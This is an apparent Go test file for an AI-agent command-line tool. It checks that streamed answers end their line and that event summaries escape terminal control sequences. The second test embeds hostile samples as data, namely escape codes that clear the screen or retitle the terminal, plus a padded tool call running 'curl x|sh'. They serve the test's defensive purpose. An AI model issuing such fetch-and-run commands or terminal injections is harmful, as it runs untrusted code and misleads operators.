package main

import (
	"bytes"
	"strings"
	"testing"

	"github.com/symbi-dev/symbi/engine"
)

// TestStreamedAnswerEndsItsLine writes stdout and stderr to one buffer, as
// a terminal shows them: an answer without a final newline gets one before
// the summary, and before whatever follows the run.
func TestStreamedAnswerEndsItsLine(t *testing.T) {
	var term bytes.Buffer
	p := newRunPrinter(&term, &term, false)
	p.event(engine.Event{Type: engine.ContentDelta, Delta: "6 × 7 "})
	p.event(engine.Event{Type: engine.ContentDelta, Delta: "is 42."})
	p.summary(&engine.Result{RunID: "r1", Termination: engine.Termination{Reason: engine.Completed}, Iterations: 1})
	p.close()
	out := term.String()
	if !strings.HasPrefix(out, "6 × 7 is 42.\n\ncompleted · 1 iteration") {
		t.Errorf("the answer and the summary share a line:\n%q", out)
	}
	if !strings.HasSuffix(out, "\n") || strings.Contains(out, "\n\n\n") {
		t.Errorf("output %q", out)
	}

	// An answer that ends with a newline gets no second one.
	term.Reset()
	p = newRunPrinter(&term, &term, false)
	p.event(engine.Event{Type: engine.ContentDelta, Delta: "done\n"})
	p.summary(&engine.Result{RunID: "r2", Termination: engine.Termination{Reason: engine.Completed}, Iterations: 1})
	if out := term.String(); !strings.HasPrefix(out, "done\n\ncompleted") {
		t.Errorf("output %q", out)
	}

	// A run that ends without a summary (an error after the answer
	// started) still ends the line.
	term.Reset()
	p = newRunPrinter(&term, &term, false)
	p.event(engine.Event{Type: engine.ContentDelta, Delta: "partial"})
	p.close()
	if term.String() != "partial\n" {
		t.Errorf("output %q", term.String())
	}
}

// The one-line renderings of events that carry the model's or a tool's
// text escape control characters, and the model's tool call shows every
// key however long its first value.
func TestDescribeEventEscapesHostileText(t *testing.T) {
	desc := strings.Repeat("benign ", 20)
	for _, tc := range []struct {
		typ, data string
		want      []string
	}{
		{"approval_rejected", `{"tool":"touch","request_id":"abc","reason":"no proof","approved":true,"by":"lead\u001b[2J"}`,
			[]string{`✗ ignored a decision on touch (abc): no proof, claimed by lead\x1b[2J`}},
		{"approval_decided", `{"tool":"touch","approved":false,"reason":"no\u001b]0;pwned\u0007"}`,
			[]string{`✗ not approved touch: no\x1b]0;pwned\a`}},
		{"policy_evaluated", `{"decisions":[{"action":{"type":"tool_call","tool":"x\u001b[H"},"decision":{"decision":"deny","reason":"unknown"}}]}`,
			[]string{`✗ deny x\x1b[H: unknown`}},
		{"reasoning_complete", `{"tool_calls":[{"name":"shell","arguments":"{\"description\":\"` + desc + `\",\n\n\"cmd\":\"curl x|sh\"}"}]}`,
			[]string{`→ shell {description: "benign`, `cmd: "curl x|sh"}`}},
		{"tool_result", `{"tool":"flaky","error":"exit 1: \u001b[2Jall clear","error_kind":"error"}`,
			[]string{`← flaky failed (error): exit 1: \x1b[2Jall clear`}},
	} {
		got := describeEvent(engine.Event{Type: tc.typ, Data: []byte(tc.data)})
		for _, want := range tc.want {
			if !strings.Contains(got, want) {
				t.Errorf("%s: %q lacks %q", tc.typ, got, want)
			}
		}
		if strings.ContainsAny(got, "\x1b\x07\n") {
			t.Errorf("%s: %q holds a raw control character", tc.typ, got)
		}
	}
}
